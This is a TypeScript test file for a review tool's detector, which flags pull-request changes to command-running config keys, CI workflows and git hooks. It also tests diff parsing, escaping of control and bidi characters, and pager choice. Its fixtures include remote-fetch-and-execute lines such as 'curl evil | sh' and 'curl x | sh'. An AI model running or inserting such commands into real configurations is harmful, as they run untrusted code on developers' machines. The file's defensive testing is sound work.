// The command-bearing-change detector (src/review/command-bearing.ts): one row per rule, each
// failing if its rule changes; and the pure parts of review's diff reading and rendering.
import { describe, expect, it } from 'vitest';
import {
  COMMAND_KEYS,
  detectCommandBearing,
  type ChangedPath,
  type CommandBearingInput,
} from '../../src/review/command-bearing.js';
import { parseRawNumstat, splitPatch } from '../../src/review/diff.js';
import { choosePager } from '../../src/review/pager.js';
import { visible } from '../../src/review/render.js';

const CONFIG = {
  target: 'main',
  concurrency: 4,
  agents: { bot: { command: ['./bot.sh', '{promptFile}'], timeoutSec: 60 } },
  checks: [
    { name: 'test', run: 'npm test' },
    { name: 'lint', run: ['npm', 'run', 'lint'] },
  ],
  worktrees: { dir: '../{repo}.yardmaster', setup: ['npm ci'], copy: ['.env'] },
  notify: { command: ['./notify.sh'], on: ['failed'] },
  engine: { kind: 'local' },
};
type Config = typeof CONFIG;
const text = (c: unknown) => JSON.stringify(c, null, 2);
/** yardmaster.json changed by `edit` (on a deep copy of CONFIG; what it returns is ignored). */
function configChange(edit: (c: Config) => unknown): CommandBearingInput {
  const after = structuredClone(CONFIG);
  edit(after);
  return configReplaced(after);
}
/** yardmaster.json replaced by this value (or this text). */
function configReplaced(after: unknown): CommandBearingInput {
  return {
    changes: [{ path: 'yardmaster.json' }],
    config: { before: text(CONFIG), after: typeof after === 'string' ? after : text(after) },
  };
}
const paths = (...p: (string | ChangedPath)[]): ChangedPath[] =>
  p.map((x) => (typeof x === 'string' ? { path: x } : x));
type Want = { path: string; rule: string; keys: string[] }[];

describe('detectCommandBearing', () => {
  const config = (key: string): Want => [{ path: 'yardmaster.json', rule: 'config', keys: [key] }];
  it.each<[string, CommandBearingInput, Want]>([
    // yardmaster.json: the command keys, compared as parsed values
    [
      "a check's command",
      configChange((c) => (c.checks[0]!.run = 'curl evil | sh')),
      config('checks[0].run'),
    ],
    [
      "a check's argv word",
      configChange((c) => ((c.checks[1]!.run as string[])[2] = 'evil')),
      config('checks[1].run'),
    ],
    [
      'a check added',
      configChange((c) => c.checks.push({ name: 'x', run: 'touch /tmp/x' })),
      config('checks[2]'),
    ],
    ['a check removed', configChange((c) => c.checks.pop()), config('checks[1]')],
    [
      "a check's timeout",
      configChange((c) => Object.assign(c.checks[0]!, { timeoutSec: 1 })),
      config('checks[0].timeoutSec'),
    ],
    [
      "an agent's command",
      configChange((c) => (c.agents.bot.command = ['sh', '-c', 'x'])),
      config('agents.bot.command'),
    ],
    [
      'an agent added',
      configChange((c) => Object.assign(c.agents, { evil: { command: ['x'] } })),
      config('agents.evil'),
    ],
    [
      "an agent's env",
      configChange((c) => Object.assign(c.agents.bot, { env: { PATH: '/tmp' } })),
      config('agents.bot.env'),
    ],
    [
      'worktrees.setup',
      configChange((c) => c.worktrees.setup.push('curl x | sh')),
      config('worktrees.setup'),
    ],
    [
      'notify.command',
      configChange((c) => (c.notify.command = ['./other.sh'])),
      config('notify.command'),
    ],
    ['notify.on', configChange((c) => c.notify.on.push('merged')), config('notify.on')],
    ['engine.kind', configChange((c) => (c.engine.kind = 'bullmq')), config('engine.kind')],
    [
      'a command key removed whole',
      configReplaced({ ...CONFIG, notify: undefined }),
      config('notify'),
    ],
    [
      'several keys, each named',
      configChange((c) => {
        c.checks[0]!.run = 'x';
        c.engine.kind = 'bullmq';
      }),
      [{ path: 'yardmaster.json', rule: 'config', keys: ['checks[0].run', 'engine.kind'] }],
    ],
    // yardmaster.json: everything else is not command-bearing
    [
      'concurrency and target',
      configChange((c) => Object.assign(c, { concurrency: 8, target: 'dev' })),
      [],
    ],
    [
      'worktrees.dir and worktrees.copy',
      configChange((c) => Object.assign(c.worktrees, { dir: '../x', copy: [] })),
      [],
    ],
    [
      'merge settings',
      configChange((c) => Object.assign(c, { merge: { requireApproval: false } })),
      [],
    ],
    [
      'key order and whitespace only',
      configReplaced(JSON.stringify(Object.fromEntries(Object.entries(CONFIG).reverse()))),
      [],
    ],
    [
      'yardmaster.json added',
      {
        changes: paths('yardmaster.json'),
        config: {
          before: null,
          after: text({ checks: [{ name: 't', run: 'x' }], target: 'main' }),
        },
      },
      config('checks'),
    ],
    [
      'yardmaster.json deleted',
      { changes: paths('yardmaster.json'), config: { before: text(CONFIG), after: null } },
      [
        {
          path: 'yardmaster.json',
          rule: 'config',
          keys: ['agents', 'checks', 'worktrees.setup', 'notify', 'engine'],
        },
      ],
    ],
    [
      'yardmaster.json renamed away',
      {
        changes: paths({ path: 'old.json', oldPath: 'yardmaster.json' }),
        config: { before: text({ checks: [], concurrency: 2 }), after: null },
      },
      [{ path: 'old.json', rule: 'config', keys: ['checks'] }],
    ],
    [
      'yardmaster.json not valid JSON on the branch: every command key',
      configReplaced('{ "checks": ['),
      [{ path: 'yardmaster.json', rule: 'config', keys: [...COMMAND_KEYS] }],
    ],
    [
      'a yardmaster.json in a subdirectory',
      { changes: paths('pkg/yardmaster.json'), config: { before: null, after: text(CONFIG) } },
      [],
    ],
    // CI definitions
    [
      'a GitHub workflow',
      { changes: paths('.github/workflows/ci.yml') },
      [{ path: '.github/workflows/ci.yml', rule: 'github-workflow', keys: [] }],
    ],
    [
      'a nested GitHub workflow file',
      { changes: paths('.github/workflows/a/b.yaml') },
      [{ path: '.github/workflows/a/b.yaml', rule: 'github-workflow', keys: [] }],
    ],
    [
      'a workflow renamed out of .github/workflows',
      { changes: paths({ path: 'disabled/ci.yml', oldPath: '.github/workflows/ci.yml' }) },
      [{ path: 'disabled/ci.yml', rule: 'github-workflow', keys: [] }],
    ],
    [
      'other files under .github',
      {
        changes: paths(
          '.github/dependabot.yml',
          '.github/CODEOWNERS',
          'docs/.github/workflows/x.yml',
        ),
      },
      [],
    ],
    [
      '.gitlab-ci.yml',
      { changes: paths('.gitlab-ci.yml') },
      [{ path: '.gitlab-ci.yml', rule: 'gitlab-ci', keys: [] }],
    ],
    ['a .gitlab-ci.yml in a subdirectory', { changes: paths('sub/.gitlab-ci.yml') }, []],
    // hooks `ym hooks install` manages, in a committed core.hooksPath
    [
      'pre-push in core.hooksPath',
      { changes: paths('.githooks/pre-push'), hooksDir: '.githooks' },
      [{ path: '.githooks/pre-push', rule: 'hook', keys: [] }],
    ],
    [
      'commit-msg in core.hooksPath',
      { changes: paths('.githooks/commit-msg'), hooksDir: '.githooks/' },
      [{ path: '.githooks/commit-msg', rule: 'hook', keys: [] }],
    ],
    [
      'a hook chained by ours',
      { changes: paths('.githooks/pre-push.pre-yardmaster'), hooksDir: '.githooks' },
      [{ path: '.githooks/pre-push.pre-yardmaster', rule: 'hook', keys: [] }],
    ],
    [
      'core.hooksPath at the root',
      { changes: paths('pre-push'), hooksDir: '' },
      [{ path: 'pre-push', rule: 'hook', keys: [] }],
    ],
    [
      'a hook yardmaster does not manage',
      { changes: paths('.githooks/pre-commit'), hooksDir: '.githooks' },
      [],
    ],
    [
      'hooks without a committed core.hooksPath',
      { changes: paths('.githooks/pre-push', 'hooks/pre-push'), hooksDir: null },
      [],
    ],
    // ordinary files
    [
      'source files',
      { changes: paths('src/a.ts', 'README.md', 'yardmaster/tracks/x/plan.md') },
      [],
    ],
    [
      'only the command-bearing files of a mixed diff, in diff order',
      { changes: paths('.github/workflows/x.yml', 'src/a.ts', '.gitlab-ci.yml') },
      [
        { path: '.github/workflows/x.yml', rule: 'github-workflow', keys: [] },
        { path: '.gitlab-ci.yml', rule: 'gitlab-ci', keys: [] },
      ],
    ],
  ])('%s', (_name, input, want) => {
    expect(
      detectCommandBearing(input).map(({ path, rule, keys }) => ({ path, rule, keys })),
    ).toEqual(want);
  });

  it('covers exactly the command keys issue 17 names', () => {
    expect(COMMAND_KEYS).toEqual(['agents', 'checks', 'worktrees.setup', 'notify', 'engine']);
  });

  it('says what changes in one line, and keeps the old path of a rename', () => {
    const [part] = detectCommandBearing(configChange((c) => (c.checks[0]!.run = 'x')));
    expect(part?.summary).toBe('checks[0].run');
    const [bad] = detectCommandBearing(configReplaced('nope'));
    expect(bad?.summary).toBe(
      'yardmaster.json is not valid JSON on the branch: agents, checks, worktrees.setup, notify, engine may change',
    );
    const [moved] = detectCommandBearing({
      changes: paths({ path: 'x.yml', oldPath: '.gitlab-ci.yml' }),
    });
    expect(moved).toMatchObject({ path: 'x.yml', oldPath: '.gitlab-ci.yml', rule: 'gitlab-ci' });
  });
});

describe('parseRawNumstat', () => {
  it('pairs raw records with their counts: modified, renamed, binary, deleted', () => {
    const raw = [
      ':100644 100644 aaa bbb M',
      'a.txt',
      ':100644 100644 ccc ccc R100',
      'old.txt',
      'new dir/new.txt',
      ':000000 100644 000 ddd A',
      'logo.png',
      ':100644 000000 eee 000 D',
      'gone.txt',
    ];
    const numstat = [
      '2\t1\ta.txt',
      '0\t0\t',
      'old.txt',
      'new dir/new.txt',
      '-\t-\tlogo.png',
      '0\t3\tgone.txt',
    ];
    expect(parseRawNumstat([...raw, ...numstat, ''].join('\0'))).toEqual([
      { path: 'a.txt', status: 'modified', added: 2, deleted: 1, binary: false },
      {
        path: 'new dir/new.txt',
        oldPath: 'old.txt',
        status: 'renamed',
        added: 0,
        deleted: 0,
        binary: false,
      },
      { path: 'logo.png', status: 'added', added: null, deleted: null, binary: true },
      { path: 'gone.txt', status: 'deleted', added: 0, deleted: 3, binary: false },
    ]);
  });
});

describe('splitPatch', () => {
  it('cuts one piece per file and counts each hunk', () => {
    const patch = [
      'diff --git a/a.txt b/a.txt',
      '--- a/a.txt',
      '+++ b/a.txt',
      '@@ -1,2 +1,3 @@',
      ' one',
      '+two',
      '-- not a header inside a hunk',
      '@@ -10 +11,2 @@ fn',
      '+x',
      '+y',
      'diff --git a/b.png b/b.png',
      'Binary files a/b.png and b/b.png differ',
      '',
    ].join('\n');
    const pieces = splitPatch(patch);
    expect(pieces.map((p) => p.hunks)).toEqual([
      [
        { oldStart: 1, oldLines: 2, newStart: 1, newLines: 3, added: 1, deleted: 1 },
        { oldStart: 10, oldLines: 1, newStart: 11, newLines: 2, added: 2, deleted: 0 },
      ],
      [],
    ]);
    expect(pieces[1]?.text).toBe(
      'diff --git a/b.png b/b.png\nBinary files a/b.png and b/b.png differ',
    );
  });
});

describe('visible', () => {
  it.each([
    ['escape sequences', 'ok\u001b[2K\u001b[1Ahidden', 'ok^[[2K^[[1Ahidden'],
    ['carriage return', 'shown\rover', 'shown^Mover'],
    ['bidi override (Trojan Source)', 'a\u202eb\u2066c', 'a<U+202E>b<U+2066>c'],
    ['C1 CSI', 'x\u009by', 'x<U+009B>y'],
    ['tabs and plain text stay', '\tconst x = "é";', '\tconst x = "é";'],
  ])('%s', (_name, input, want) => {
    expect(visible(input)).toBe(want);
  });
});

describe('choosePager', () => {
  const tty = { json: false, isTTY: true };
  it.each<[string, Parameters<typeof choosePager>[0], string | null]>([
    ['default on a terminal', { ...tty, env: {} }, 'less -R'],
    ['$PAGER', { ...tty, env: { PAGER: 'more' } }, 'more'],
    ['empty $PAGER: none', { ...tty, env: { PAGER: '' } }, null],
    ['PAGER=cat: none', { ...tty, env: { PAGER: 'cat' } }, null],
    ['not a terminal', { json: false, isTTY: false, env: {} }, null],
    ['--json', { json: true, isTTY: true, env: {} }, null],
    ['CI', { ...tty, env: { CI: 'true' } }, null],
  ])('%s', (_name, input, want) => {
    expect(choosePager(input)).toBe(want);
  });
});
